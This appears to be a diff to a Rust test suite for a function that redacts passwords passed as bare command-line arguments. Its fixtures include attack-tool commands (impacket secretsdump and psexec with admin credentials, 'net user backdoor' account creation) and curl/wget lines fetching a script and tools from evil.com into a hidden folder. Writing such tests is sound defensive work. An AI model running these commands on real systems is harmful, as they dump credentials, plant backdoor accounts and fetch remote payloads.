@@ -366,10 +366,33 @@ fn a21_the_program_of_arguments_may_stand_beside_them() {
 }
 
 #[test]
+fn a21_a_password_without_an_option_goes_out_of_arguments() {
+    for arguments in [
+        json!(["python3", "secretsdump.py", "CORP/admin:¤@10.0.0.5"]),
+        json!(["impacket-psexec", "admin:¤@10.0.0.5"]),
+        json!(["net", "user", "backdoor", "¤"]),
+        json!([r"C:\Windows\System32\NET.EXE", "user", "backdoor", "¤"]),
+        json!(["sudo", "redis-cli", "AUTH", "¤"]),
+        json!({"path": "/bin/redis-cli", "args": ["AUTH", "¤"]}),
+        json!({"path": r"C:\Windows\net.exe", "args": ["user", "backdoor", "¤"]}),
+    ] {
+        let with = |text: &str| -> Value {
+            serde_json::from_str(&arguments.to_string().replace('¤', text)).unwrap()
+        };
+        assert_eq!(
+            cleaned(with("Winterberg1703#")),
+            with("[redacted:command_password]")
+        );
+    }
+}
+
+#[test]
 fn a21_ordinary_arguments_and_lists_stay() {
     for arguments in [
         json!(["curl", "-sS", "-o", "/tmp/x", "https://evil.com/run.sh"]),
         json!(["mysql", "-P", "3306", "-u", "root", "-p"]),
+        json!(["net", "user", "backdoor"]),
+        json!(["python3", "app.py", "alice", "carol:dave"]),
         json!(["wget", "https://evil.com/tools.zip", "-P", "/tmp/.hidden"]),
         json!(["app", "--token", "--secret", "--api-key", "--verbose"]),
         json!(["sh", "-c", "echo password reset by admin", "the user"]),
